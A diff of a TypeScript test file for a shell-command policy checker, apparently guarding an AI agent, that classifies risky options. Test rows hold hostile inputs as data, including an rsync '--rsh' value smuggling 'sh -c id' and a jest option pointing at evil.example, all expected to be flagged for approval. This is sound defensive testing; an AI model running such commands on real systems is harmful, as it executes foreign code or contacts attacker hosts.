@@ -7,15 +7,17 @@ const context = { cwd: "/workspace", workspace: "/workspace", home: "/home/user"
 const judged = (command: string) => judgeCommand(command, context, defaultPolicy)
 
 describe("a table of ordinary calls", () => {
-  const calls = ordinaryCalls(
-    `
+  const calls = ordinaryCalls({
+    free: ["deep verb of = -a"],
+    confined: [
+      `
 _common = -v --verbose
 tool|other = + -f: -o> -x~ --colour^auto,al* -W* @_common
 tool run|
   start, other run = * -c< --exec! >
 `,
-    "deep verb of = -a",
-  )
+    ],
+  })
 
   it("has an entry for each name and subcommand, and for what stands before a subcommand", () => {
     expect([...calls.keys()].toSorted()).toEqual([
@@ -55,7 +57,7 @@ tool run|
   })
 
   it("must know what it takes over", () => {
-    expect(() => ordinaryCalls("tool = @nothing")).toThrow("nothing")
+    expect(() => ordinaryCalls({ free: ["tool = @nothing"], confined: [] })).toThrow("nothing")
   })
 })
 
@@ -81,7 +83,7 @@ describe("an option", () => {
     ["a configuration from elsewhere", "jest --config /tmp/x.js", "unknown"],
     ["a plugin with a name", "protoc --plugin=protoc-gen-x=/tmp/x a.proto", "unknown"],
     ["a command", "rsync -a --rsh='sh -c id' a b", "inline-code"],
-    ["an address", "eslint --parser https://evil.example/x src", "network-egress"],
+    ["an address", "jest --testEnvironment https://evil.example/x", "network-egress"],
     ["a value that is not ordinary", "pytest -p evil", "unknown"],
   ])("may name %s", (_, command, name) => {
     expect(judged(command)).toMatchObject({ verdict: "ask", class: name })
